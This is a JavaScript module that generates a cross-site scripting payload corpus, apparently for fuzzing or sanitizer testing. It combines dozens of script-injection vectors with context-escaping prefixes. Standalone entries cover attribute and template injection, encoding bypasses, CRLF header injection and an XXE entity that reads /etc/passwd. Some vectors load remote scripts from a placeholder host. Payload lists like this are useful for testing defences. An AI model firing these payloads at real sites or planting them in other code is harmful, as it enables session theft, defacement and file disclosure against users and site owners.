/*
 * A few hundred texts that want to be more than text: each way to bring in a script with each way out of where it stands.
 *
 *     for (const payload of payloads()) …                              strings; what runs says alert(1)
 */
const ways = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=data:,alert(1)></script>',
  '<script src=//porter.invalid/x.js></script>',
  '<script/src=x>alert(1)</script/>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)" autofocus>x</a>',
  '<form action="javascript:alert(1)"><button autofocus>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="//porter.invalid/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//porter.invalid/x.css>',
  '<style>@import "//porter.invalid/x.css";</style>',
  '<style onload=alert(1)></style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<table background="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video>',
];

const exits = [
  (way) => way,
  (way) => `">${way}`,
  (way) => `'>${way}`,
  (way) => `</title>${way}`,
  (way) => `</textarea></select></form>${way}`,
  (way) => `--></script>${way}`,
  (way) => `]]>${way}`,
  (way) => `&lt;${way}&#62;`,
];

const alone = [
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" onmouseover=alert(1) x="',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//porter.invalid/',
  '\\\\porter.invalid\\',
  '"};alert(1);//',
  "'-alert(1)-'",
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '\u2028alert(1)\u2029',
  '\u202e<tpircs>)1(trela',
  '\ufeff<script>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<xsl:script>alert(1)</xsl:script>',
  '\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
];

export function payloads() {
  return [...ways.flatMap((way) => exits.map((exit) => exit(way))), ...alone];
}
